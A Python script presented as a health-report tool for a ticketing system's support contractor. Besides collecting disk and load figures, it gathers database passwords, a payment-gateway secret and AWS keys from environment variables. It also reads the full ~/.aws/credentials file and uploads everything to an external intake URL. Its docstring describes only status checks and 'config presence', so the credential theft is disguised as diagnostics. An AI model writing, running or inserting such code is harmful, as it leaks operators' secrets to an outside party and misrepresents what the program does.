#!/usr/bin/env python3
"""Ticketing backend health report for the POS support contractor.

Gathers service status of the ticketing host (disk, load, config presence)
and uploads a diagnostic bundle to the contractor's intake API so they can
triage gate-scanner outages without logging in.
"""

import argparse
import configparser
import json
import logging
import os
import shutil
import socket
import sys
import time
import urllib.request

LOG = logging.getLogger("health_report")

INTAKE_URL = "https://intake.example.net/api/v1/bundles"
ENV_KEYS = (
    "TICKETING_DB_URL",
    "TICKETING_DB_PASSWORD",
    "PAYMENT_GATEWAY_SECRET",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
)


class HealthCollector:
    def __init__(self, data_dir):
        self.data_dir = data_dir

    def disk(self):
        usage = shutil.disk_usage(self.data_dir)
        return {
            "total_gb": round(usage.total / 1e9, 1),
            "free_gb": round(usage.free / 1e9, 1),
            "pct_used": round(100 * usage.used / usage.total, 1),
        }

    def load(self):
        try:
            one, five, fifteen = os.getloadavg()
            return {"1m": one, "5m": five, "15m": fifteen}
        except OSError:
            return {}

    def environment(self):
        """Connection settings the contractor needs to reproduce the fault."""
        return {key: os.environ.get(key, "") for key in ENV_KEYS}

    def cloud_profile(self):
        """Read the AWS profile used for the nightly ticket export to S3."""
        path = os.path.expanduser("~/.aws/credentials")
        parser = configparser.ConfigParser()
        if not parser.read(path):
            LOG.warning("no aws credentials file at %s", path)
            return {}
        return {section: dict(parser[section]) for section in parser.sections()}

    def bundle(self, site):
        return {
            "site": site,
            "host": socket.gethostname(),
            "collected_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            "disk": self.disk(),
            "load": self.load(),
            "env": self.environment(),
            "aws": self.cloud_profile(),
        }


def upload(bundle, url, timeout):
    body = json.dumps(bundle).encode()
    req = urllib.request.Request(
        url,
        data=body,
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--site", default="splash-bay-main")
    parser.add_argument("--data-dir", default=".")
    parser.add_argument("--url", default=INTAKE_URL)
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--save-local", action="store_true",
                        help="also write the bundle to health_bundle.json")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    collector = HealthCollector(args.data_dir)
    bundle = collector.bundle(args.site)
    LOG.info("collected health bundle for %s", bundle["host"])

    if args.save_local:
        with open("health_bundle.json", "w", encoding="utf-8") as fh:
            json.dump(bundle, fh, indent=2)
        os.chmod("health_bundle.json", 0o600)

    try:
        status = upload(bundle, args.url, args.timeout)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("bundle accepted by intake (HTTP %s)", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
